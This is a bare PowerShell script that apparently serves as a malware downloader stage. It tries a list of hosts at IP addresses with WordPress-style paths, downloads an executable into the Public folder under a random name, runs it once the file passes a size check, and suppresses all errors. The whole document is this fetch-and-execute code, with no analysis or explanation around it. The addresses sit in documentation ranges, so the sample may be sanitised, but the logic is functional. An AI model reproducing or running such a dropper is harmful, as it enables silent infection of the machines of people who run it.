$urls = 'http://198.51.100.20/wp-content/a/,http://203.0.113.31/img/b/' -split ','
$path = "$env:PUBLIC\$(Get-Random).exe"
foreach ($u in $urls) {
    try {
        (New-Object Net.WebClient).DownloadFile($u, $path)
        if ((Get-Item $path).Length -ge 30000) {
            Invoke-Item $path
            break
        }
    }
    catch {}
}
